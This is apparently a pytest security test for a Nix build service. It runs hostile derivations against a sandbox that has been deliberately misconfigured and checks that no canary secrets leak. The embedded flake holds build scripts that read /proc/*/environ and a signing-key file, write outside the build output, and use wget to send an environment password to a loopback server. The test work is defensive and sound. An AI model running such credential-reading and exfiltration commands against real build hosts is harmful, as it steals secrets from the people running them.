"""Hostile derivations against the local executor, on real Nix, with the builder configured as
badly as a host could configure it (NIX_CONFIG turning the sandbox off) and its secrets where a
careless deployment puts them (a world-readable key file, the NATS password in its
environment). A derivation that reads the key file and /proc/*/environ, writes to the host's
/tmp and into the store, and reaches for the network sees none of it; a fixed-output derivation
that asks for the NATS password through `impureEnvVars` and sends it to a loopback HTTP server
reaches the server (fixed-output builds keep the network) but gets no password. The canary
values appear in no build.done, no build log and no log record."""

from __future__ import annotations

import contextlib
import http.server
import logging
import os
import secrets
import shutil
import tempfile
import textwrap
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from niphas_builder.settings import BuilderSettings
from niphas_common.bus.bus import Bus
from niphas_common.nix.runner import NixRunner
from niphas_common.nix.signing import SecretKey
from tests.nix_harness import NixTools, nix_system

from .conftest import BuildFlake
from .helpers import running_builder
from .test_build import wait_build_done

pytestmark = [pytest.mark.nix]

_FLAKE = """\
{
  inputs.tools = { url = "path:@TOOLS@"; flake = false; };
  outputs = { self, tools }:
    let
      system = "@SYSTEM@";
      bb = "${tools}/bin/busybox";
    in {
      packages.${system} = {
        snoop = derivation {
          inherit system;
          name = "snoop-@SEED@";
          builder = bb;
          args = [ "sh" "-c" ''
            for f in /proc/[0-9]*/environ; do
              { ${bb} tr '\\0' ' ' < $f; } 2>/dev/null | ${bb} grep -q . && echo "read $f"
            done
            echo "environ /proc/1/environ: $(${bb} tr '\\0' ' ' < /proc/1/environ 2>&1)"
            echo "key: $(${bb} cat @KEY@ 2>&1)"
            echo x > /tmp/@ESCAPE@ && echo "wrote /tmp"
            echo x > /nix/store/@ESCAPE@ && echo "wrote /nix/store"
            ${bb} wget -q -O- http://127.0.0.1:@PORT@/plain-build && echo "reached the network"
            exit 1
          '' ];
        };
        leak = derivation {
          inherit system;
          name = "leak-@SEED@";
          builder = bb;
          impureEnvVars = [ "NIPHAS_NATS_PASSWORD" ];
          outputHashMode = "flat";
          outputHashAlgo = "sha256";
          outputHash = "@ZEROS@";
          args = [ "sh" "-c" ''
            echo "environment: $(${bb} env | ${bb} tr '\\n' ' ')"
            ${bb} wget -q -O- "http://127.0.0.1:@PORT@/fod?password=$NIPHAS_NATS_PASSWORD"
            echo "sent: $?"
            exit 1
          '' ];
        };
      };
    };
}
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    received: list[str]

    def do_GET(self) -> None:
        self.received.append(f"{self.requestline}\n{self.headers}")
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextlib.contextmanager
def recording_server() -> Iterator[tuple[int, list[str]]]:
    """A loopback HTTP server that records every request (what a build sent out)."""
    received: list[str] = []
    handler = type("Handler", (_Recorder,), {"received": received})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], received
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@dataclass
class Secrets:
    key_file: Path
    key_body: str
    password: str
    escape: str

    def all(self) -> list[str]:
        return [self.key_body, self.password]


@pytest.fixture
def exposed_secrets(monkeypatch: pytest.MonkeyPatch) -> Iterator[Secrets]:
    """The builder's key in a world-readable file under the host's /tmp (so only the sandbox
    stands between a build and it), the NATS password in the builder's environment, and a
    Nix configuration that turns the sandbox off."""
    directory = Path(tempfile.mkdtemp(prefix="niphas-key-"))
    directory.chmod(0o755)
    key = SecretKey.generate("niphas-canary-1")
    key_file = directory / "cache-key.sec"
    key_file.write_text(str(key))
    key_file.chmod(0o644)
    password = f"canary-{secrets.token_hex(16)}"
    monkeypatch.setenv("NIPHAS_NATS_PASSWORD", password)
    monkeypatch.setenv("NIX_CONFIG", "sandbox = false\n")
    escape = f"niphas-escape-{secrets.token_hex(8)}"
    try:
        yield Secrets(key_file, str(key).partition(":")[2], password, escape)
    finally:
        shutil.rmtree(directory)
        for leftover in (Path("/tmp") / escape, Path("/nix/store") / escape):
            with contextlib.suppress(FileNotFoundError):
                leftover.unlink()


def hostile_flake(
    tmp_path: Path, nix_tools: NixTools, runner: NixRunner, found: Secrets, port: int
) -> BuildFlake:
    seed = secrets.token_hex(6)
    directory = tmp_path / "hostile"
    directory.mkdir()
    text = (
        _FLAKE.replace("@TOOLS@", str(nix_tools.path))
        .replace("@SYSTEM@", nix_system())
        .replace("@SEED@", seed)
        .replace("@KEY@", str(found.key_file))
        .replace("@ESCAPE@", found.escape)
        .replace("@PORT@", str(port))
        .replace("@ZEROS@", "0" * 64)
    )
    (directory / "flake.nix").write_text(textwrap.dedent(text))
    return BuildFlake(directory, seed, runner)


def assert_no_canary(found: Secrets, *texts: str) -> None:
    for text in texts:
        for canary in found.all():
            assert canary not in text


async def test_build_cannot_read_secrets_write_outside_out_or_reach_the_network(
    bus: Bus,
    builder_settings: BuilderSettings,
    nix_tools: NixTools,
    nix_runner: NixRunner,
    exposed_secrets: Secrets,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    settings = builder_settings.model_copy(update={"secret_key_file": exposed_secrets.key_file})
    with recording_server() as (port, received):
        flake = hostile_flake(tmp_path, nix_tools, nix_runner, exposed_secrets, port)
        async with running_builder(bus, settings):
            await bus.publish(flake.eval_done("snoop"))
            [done] = await wait_build_done(bus)
    assert done.status == "failed" and done.log_tail is not None
    log = done.log_tail
    # The build ran its probes (the log shows them) and every one of them came back empty.
    assert "key: " in log and "No such file or directory" in log
    assert "environ /proc/1/environ" in log
    # The writes went to the sandbox's private /tmp and store directory, not the host's.
    assert "wrote /tmp" in log and not (Path("/tmp") / exposed_secrets.escape).exists()
    assert not (Path("/nix/store") / exposed_secrets.escape).exists()
    assert "reached the network" not in log and received == []
    assert_no_canary(exposed_secrets, done.model_dump_json(), caplog.text)


async def test_fixed_output_build_gets_the_network_but_not_the_builders_environment(
    bus: Bus,
    builder_settings: BuilderSettings,
    nix_tools: NixTools,
    nix_runner: NixRunner,
    exposed_secrets: Secrets,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    assert os.environ["NIPHAS_NATS_PASSWORD"] == exposed_secrets.password
    with recording_server() as (port, received):
        flake = hostile_flake(tmp_path, nix_tools, nix_runner, exposed_secrets, port)
        async with running_builder(bus, builder_settings):
            await bus.publish(flake.eval_done("leak"))
            [done] = await wait_build_done(bus)
    assert done.status == "failed" and done.log_tail is not None
    assert "environment: " in done.log_tail and "sent: 0" in done.log_tail
    # It did reach the loopback server (fixed-output builds have the network)...
    assert any("GET /fod?password=" in r for r in received), received
    # ...and nothing it sent, printed or logged carries the password.
    assert_no_canary(exposed_secrets, done.model_dump_json(), caplog.text, *received)
